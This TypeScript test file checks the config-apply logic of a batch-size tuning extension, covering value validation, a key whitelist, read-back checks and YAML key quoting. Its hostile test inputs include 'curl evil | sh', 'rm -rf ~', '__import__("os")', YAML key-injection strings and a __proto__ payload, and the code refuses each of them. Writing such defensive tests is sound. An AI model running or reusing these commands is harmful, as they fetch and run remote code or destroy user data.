// Apply (src/core/config/apply.ts, the one implementation behind the VS Code command, the panel
// and the CodeLens): values validated, the global batch kept consistent in its family of keys, a
// schedule only into our own format, and a read-back that refuses any change outside the
// whitelist, whatever a study file asks for (issue 12). Keys written by path are quoted so that
// they can never become YAML syntax.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse as parseYaml } from 'yaml';
import {
  applyConfigEdits,
  APPLY_WRITABLE_KEYS,
  findBatchSizeSites,
  invalidChange,
  OUR_WRITABLE_PATHS,
  planApply,
  withBatchSize,
  withGlobalBatch,
  type ApplyChanges,
} from '../../src/core/config';
import { strayChange, strayPythonEdit } from '../../src/core/config/apply';
import { warmupPlanChanges } from '../../src/core/headline';
import type { BatchSizePlan } from '../../src/core/types';

const DS =
  '{\n  "train_batch_size": 64,\n  "train_micro_batch_size_per_gpu": 16,\n  "gradient_accumulation_steps": 4,\n  "optimizer": {"type": "AdamW", "params": {"lr": 0.0003}}\n}\n';
const OURS = 'model: {type: mlp}\ndata:\n  source: mnist\noptimizer:\n  name: sgd\n  learning_rate: 0.1  # keep\nbatch_size: 16  # here\n';
const MNIST = '# mnist\nmodel:\n  type: mlp\ndata:\n  source: mnist\noptimizer:\n  name: adam\n  learning_rate: 0.001\nbatch_size: 32\n';

/** planApply's text, or a failed assertion with its reason. */
function applied(text: string, file: string, c: ApplyChanges): { text: string; notes: string[] } {
  const p = planApply(text, `/w/${file}`, file, c);
  assert.ok(p.ok, p.ok ? '' : p.reason);
  return p;
}

/** planApply's reason for refusing. */
function refused(text: string, file: string, c: unknown): string {
  const p = planApply(text, `/w/${file}`, file, c as ApplyChanges);
  assert.equal(p.ok, false, `applied: ${JSON.stringify(c)}`);
  return p.ok ? '' : p.reason;
}

test('DeepSpeed: a global batch of 128 keeps the 4 accumulation steps (micro 32), and the lr beside it', () => {
  const j = JSON.parse(applied(DS, 'ds_config.json', { batchSize: 128, learningRate: 0.0006 }).text) as Record<string, unknown> & {
    optimizer: { params: { lr: number } };
  };
  assert.deepEqual([j.train_batch_size, j.train_micro_batch_size_per_gpu, j.gradient_accumulation_steps], [128, 32, 4]);
  assert.equal(j.optimizer.params.lr, 0.0006);
});

test('DeepSpeed: a batch that is not a whole number of micro-batches is refused with the multiple to pick', () => {
  assert.match(refused(DS, 'ds_config.json', { batchSize: 66 }), /pick a multiple of 4/);
});

test('DeepSpeed: an "auto" among numbers is a positioned refusal (file:line:col)', () => {
  const text = '{\n  "train_batch_size": "auto",\n  "train_micro_batch_size_per_gpu": 16,\n  "gradient_accumulation_steps": 4\n}\n';
  const p = planApply(text, '/w/ds.json', 'ds.json', { batchSize: 128 });
  assert.equal(p.ok, false);
  if (p.ok) return;
  assert.match(p.reason, /^ds\.json:2:23: train_batch_size is "auto" while/);
  assert.equal(p.diagnostic?.line, 2);
});

test('ours: batch size, learning rate and a schedule; comments stay', () => {
  const out = applied(OURS, 'a.batch-tuner.yaml', { batchSize: 64, learningRate: 0.4, schedule: { kind: 'step', every_steps: 100 } }).text;
  assert.match(out, /learning_rate: 0\.4 {2}# keep/);
  assert.match(out, /batch_size: 64 {2}# here/);
  assert.match(out, /batch_schedule:/);
  const ramp = applied(MNIST, 'c.yaml', {
    batchSize: 64,
    learningRate: 0.0014142135623730952,
    schedule: { kind: 'linear_ramp', from: 32, to: 64, over_samples: 1000 },
  }).text;
  const doc = parseYaml(ramp) as Record<string, unknown>;
  assert.equal(doc.batch_size, 64);
  assert.deepEqual(doc.optimizer, { name: 'adam', learning_rate: 0.0014142 });
  assert.deepEqual(doc.batch_schedule, { kind: 'linear_ramp', from: 32, to: 64, over_samples: 1000 });
  assert.ok(ramp.startsWith('# mnist\n'), 'comments stay');
});

test('ours without an optimizer section: the learning rate goes to optimizer.learning_rate, where the built-in trainer reads it', () => {
  const doc = parseYaml(
    applied('model: {type: mlp}\ndata: {source: mnist}\nbatch_size: 16\n', 'b.batch-tuner.yaml', { batchSize: 32, learningRate: 0.02 }).text,
  ) as Record<string, unknown>;
  assert.deepEqual([doc.batch_size, doc.optimizer], [32, { learning_rate: 0.02 }]);
});

test('a warm-up plan writes its batch_schedule and the first stage (batch size, learning rate), nothing else', () => {
  const plan: BatchSizePlan = {
    kind: 'warmup',
    stages: [
      { fromSamples: 0, batchSize: 32, learningRate: 0.01 },
      { fromSamples: 3200, batchSize: 64, learningRate: 0.02 },
    ],
    schedule: { kind: 'step', at_steps: [100], factor: 2, max_batch_size: 64 },
    horizonSamples: 6400,
    predictedSteps: 150,
    bestFixed: { batchSize: 64, predictedSteps: 180 },
    basis: 'fitted',
    description: '32 until 3.2k samples, then 64',
  };
  const changes = warmupPlanChanges({ plan });
  assert.deepEqual(changes, { batchSize: 32, learningRate: 0.01, schedule: plan.schedule });
  assert.deepEqual(warmupPlanChanges({ plan }, false), { batchSize: 32, schedule: plan.schedule });
  assert.equal(warmupPlanChanges({ plan: { ...plan, schedule: undefined } }), undefined, 'an external script: no schedule to write');
  assert.equal(warmupPlanChanges({ plan: { ...plan, kind: 'fixed', stages: plan.stages.slice(0, 1) } }), undefined);
  const text = 'model: {type: mlp}\ndata: {source: mnist}\noptimizer: {name: sgd, learning_rate: 0.1}\nbatch_size: 16\nsteps: 500\n';
  const doc = parseYaml(applied(text, 'p.batch-tuner.yaml', changes).text) as Record<string, unknown>;
  assert.deepEqual(doc, {
    model: { type: 'mlp' },
    data: { source: 'mnist' },
    optimizer: { name: 'sgd', learning_rate: 0.01 },
    batch_size: 32,
    steps: 500,
    batch_schedule: plan.schedule,
  });
});

test('values are validated: whole batch sizes, finite learning rates, schedules by the one schedule validator', () => {
  assert.match(invalidChange({ batchSize: 12.5 }) ?? '', /positive integer \(got 12\.5\)/);
  assert.match(invalidChange({ batchSize: 8, learningRate: Number.POSITIVE_INFINITY }) ?? '', /positive finite number/);
  assert.match(invalidChange({ batchSize: 8, learningRate: -1 }) ?? '', /positive finite number/);
  assert.match(invalidChange({ batchSize: 8, accumulationSteps: 0 }) ?? '', /accumulation steps must be a positive integer \(got 0\)/);
  const crafted = { kind: 'step', every_steps: 10, command: 'touch /tmp/x' } as never;
  assert.match(invalidChange({ batchSize: 8, schedule: crafted }) ?? '', /batch_schedule: unknown key "command"/);
  assert.equal(invalidChange({ batchSize: 8, learningRate: 0.1, schedule: { kind: 'linear_ramp', from: 8, to: 64, over_samples: 1000 } }), undefined);
});

test('bad numbers are refused with the value named, by Apply and by every other writer; nothing is written', () => {
  for (const batchSize of [0, -8, 1.5, NaN, Infinity, 2 ** 40, '64', null, undefined]) {
    const shown = typeof batchSize === 'string' ? `"${batchSize}"` : String(batchSize);
    const why = new RegExp(`batch size must be (a positive integer|at most ${1 << 24}) \\(got ${shown.replace(/[.+]/g, '\\$&')}\\)`);
    assert.match(refused(MNIST, 'c.yaml', { batchSize }), why);
    assert.throws(() => withBatchSize(MNIST, 'yaml', batchSize as number), why);
  }
  for (const learningRate of [0, -0.1, NaN, Infinity, '0.1', null]) {
    assert.match(refused(MNIST, 'c.yaml', { batchSize: 64, learningRate }), /learning rate must be a positive finite number \(got /, String(learningRate));
    assert.throws(() => withBatchSize(MNIST, 'yaml', 64, learningRate as number), /learning rate must be a positive finite number/);
  }
  assert.throws(
    () => withGlobalBatch('batch_size: 8\ngradient_accumulation_steps: 1\n', 'c.yaml', { micro: 0, accumulation: 1 }),
    /micro must be a whole number >= 1/,
  );
  assert.throws(
    () => withGlobalBatch('batch_size: 8\nlr: 0.1\n', 'c.yaml', { micro: 8, accumulation: 1, learningRate: NaN }),
    /learningRate must be a number > 0/,
  );
});

test('a crafted study cannot write keys the whitelist does not name', () => {
  const crafted: unknown[] = [
    { kind: 'adaptive', every_steps: 10, command: 'curl evil | sh' },
    { kind: 'adaptive', 'every_steps: 1\ntuner:\n  command': 'curl evil | sh' },
    { kind: 'constant', tuner: { command: 'curl evil | sh' } },
    { kind: 'linear_ramp', from: 32, to: 64, over_samples: '1000\ntuner: {command: x}' },
    { kind: 'adaptive\ntuner:\n  command: x' },
    'kind: constant\ntuner:\n  command: x',
    [{ kind: 'constant' }],
  ];
  for (const schedule of crafted)
    assert.match(refused(MNIST, 'c.yaml', { batchSize: 64, schedule }), /^the study's schedule cannot be written: batch_schedule/, JSON.stringify(schedule));
  const proto = JSON.parse('{"kind": "constant", "__proto__": {"command": "x"}}') as unknown;
  assert.match(refused(MNIST, 'c.yaml', { batchSize: 64, schedule: proto }), /unknown key "__proto__"/);
});

test('a schedule only goes into our own format', () => {
  assert.match(
    refused(DS, 'ds_config.json', { batchSize: 64, schedule: { kind: 'step', every_steps: 100 } }),
    /only be written into a Batch Tuner training config/,
  );
  assert.match(
    refused('batch_size: 8\nlr: 0.1\n', 'own.yaml', { batchSize: 16, schedule: { kind: 'constant' } }),
    /only be written into a Batch Tuner training config/,
  );
});

test("in a user's own config only the found keys change: the learning rate is never added there", () => {
  const own = '# mine\ntrain:\n  batch_size: 8   # small GPU\n  epochs: 3\n';
  const out = applied(own, 'own.yaml', { batchSize: 16, learningRate: 0.01 });
  assert.equal(out.text, '# mine\ntrain:\n  batch_size: 16   # small GPU\n  epochs: 3\n');
  assert.match(out.notes.join(), /no learning-rate key next to batch_size/);
  assert.equal(
    applied('[train]\nbatch_size = 8 # x\nlr = 0.1\n', 'p.toml', { batchSize: 32, learningRate: 0.2 }).text,
    '[train]\nbatch_size = 32 # x\nlr = 0.2\n',
  );
});

test('Python: the argparse default is written; no batch-size key is a clear refusal', () => {
  const py = 'import argparse\np = argparse.ArgumentParser()\np.add_argument("--batch-size", type=int, default=32)\n';
  assert.match(applied(py, 'train.py', { batchSize: 128 }).text, /default=128\)/);
  const hf = 'from transformers import TrainingArguments\nargs = TrainingArguments(per_device_train_batch_size=8, lr_scheduler_type="cosine")\n';
  assert.match(
    applied(hf, 'hf.py', { batchSize: 64, accumulationSteps: 4 }).text,
    /per_device_train_batch_size=16, gradient_accumulation_steps=4, lr_scheduler/,
  );
  assert.match(refused('epochs: 3\n', 'x.yaml', { batchSize: 8 }), /x\.yaml has no batch-size key to set/);
});

test('the whitelist: key names Apply may write, and the paths only our own format adds', () => {
  assert.deepEqual(OUR_WRITABLE_PATHS, [['optimizer', 'learning_rate'], ['batch_schedule']]);
  for (const k of [
    'batch_size',
    'lr',
    'train_micro_batch_size_per_gpu',
    'gradient_accumulation_steps',
    'accumulate_grad_batches',
    'accumulation_steps',
    'batch_schedule',
  ])
    assert.ok(APPLY_WRITABLE_KEYS.has(k), k);
  for (const k of ['devices', 'num_nodes', 'command', 'tuner', 'steps', 'epochs']) assert.ok(!APPLY_WRITABLE_KEYS.has(k), k);
});

test('the read-back: a key outside the written ones is caught (YAML, JSON, TOML); written ones pass', () => {
  const ours = { paths: [['batch_size']], ours: true };
  assert.equal(strayChange(OURS, OURS.replace('batch_size: 16', 'batch_size: 32'), 'yaml', ours), undefined);
  assert.equal(strayChange(OURS, OURS.replace('learning_rate: 0.1', 'learning_rate: 0.2'), 'yaml', ours), undefined);
  assert.equal(strayChange(OURS, OURS + 'batch_schedule: {kind: constant}\n', 'yaml', ours), undefined);
  assert.equal(strayChange(OURS, OURS + 'tuner:\n  command: touch /tmp/x\n', 'yaml', ours), 'tuner.command');
  assert.equal(strayChange(OURS, OURS.replace('name: sgd', 'name: adam'), 'yaml', ours), 'optimizer.name');
  assert.equal(
    strayChange(OURS, OURS + 'batch_schedule: {kind: constant}\n', 'yaml', { ...ours, ours: false }),
    'batch_schedule.kind',
    'not ours: no schedule',
  );
  // A path passed as written is still held to the names Apply may write.
  assert.equal(strayChange(OURS, OURS.replace('name: sgd', 'name: adam'), 'yaml', { paths: [['optimizer', 'name']], ours: false }), 'optimizer.name');
  const ds = { paths: [['train_batch_size'], ['optimizer', 'params', 'lr']], ours: false };
  assert.equal(strayChange(DS, DS.replace('"lr": 0.0003', '"lr": 0.0006'), 'json', ds), undefined);
  assert.equal(strayChange(DS, DS.replace('"AdamW"', '"SGD"'), 'json', ds), 'optimizer.type');
  assert.equal(
    strayChange(DS, DS.replace('"gradient_accumulation_steps": 4', '"gradient_accumulation_steps": 8'), 'json', ds),
    'gradient_accumulation_steps',
    'a writable name at a path not written',
  );
  const toml = { paths: [['train', 'batch_size']], ours: false };
  assert.equal(strayChange('[train]\nbatch_size = 8\nepochs = 1\n', '[train]\nbatch_size = 16\nepochs = 1\n', 'toml', toml), undefined);
  assert.equal(strayChange('[train]\nbatch_size = 8\nepochs = 1\n', '[train]\nbatch_size = 16\nepochs = 2\n', 'toml', toml), 'train.epochs');
  assert.equal(
    strayChange('[train]\nbatch_size = 8\n', '[train]\nbatch_size = 8\n[tool.batch_tuner]\ncommand = "x"\n', 'toml', toml),
    'tool.batch_tuner.command',
  );
});

test('the read-back: Python edits only over the batch and lr values, or a writable keyword added beside them', () => {
  const py = 'Trainer(batch_size=8, accumulate_grad_batches=1, devices=2)\nos.system("x")\n';
  const sites = findBatchSizeSites(py, 'python').map((s) => s.batchSize);
  const at = (s: string) => py.indexOf(s);
  assert.equal(strayPythonEdit(py, [{ offset: at('8'), length: 1, newText: '16' }], sites), undefined);
  assert.equal(strayPythonEdit(py, [{ offset: at('8') + 1, length: 0, newText: ', accumulate_grad_batches=2' }], sites), undefined);
  assert.match(strayPythonEdit(py, [{ offset: at('8') + 1, length: 0, newText: ', devices=4' }], sites) ?? '', /^line 1/, 'devices is never written');
  assert.match(strayPythonEdit(py, [{ offset: at('8'), length: 1, newText: '__import__("os")' }], sites) ?? '', /^line 1/, 'only a number over a value');
  assert.match(strayPythonEdit(py, [{ offset: at('"x"'), length: 3, newText: '"rm -rf ~"' }], sites) ?? '', /^line 2 \("\\"x\\"" -> "\\"rm -rf ~\\""\)/);
});

test('keys written by path are quoted when they are not plain: a key can never become YAML syntax', () => {
  const evil = 'x: 1\ntuner:\n  command: curl evil | sh\nz';
  const out = applyConfigEdits('batch_size: 8\n', 'c.yaml', [{ path: ['extra'], value: { [evil]: 1, 'a #b': 'c: d', ok_key: 'yes' } }]).text;
  const doc = parseYaml(out) as Record<string, unknown>;
  assert.deepEqual(Object.keys(doc), ['batch_size', 'extra']);
  assert.deepEqual(doc.extra, { [evil]: 1, 'a #b': 'c: d', ok_key: 'yes' });
  const flow = applyConfigEdits('batch_size: 8\nextra: {a: 1}\n', 'c.yaml', [{ path: ['extra', evil], value: 2 }]).text;
  assert.deepEqual((parseYaml(flow) as Record<string, unknown>).extra, { a: 1, [evil]: 2 });
  assert.ok(!('tuner' in (parseYaml(flow) as object)));
});
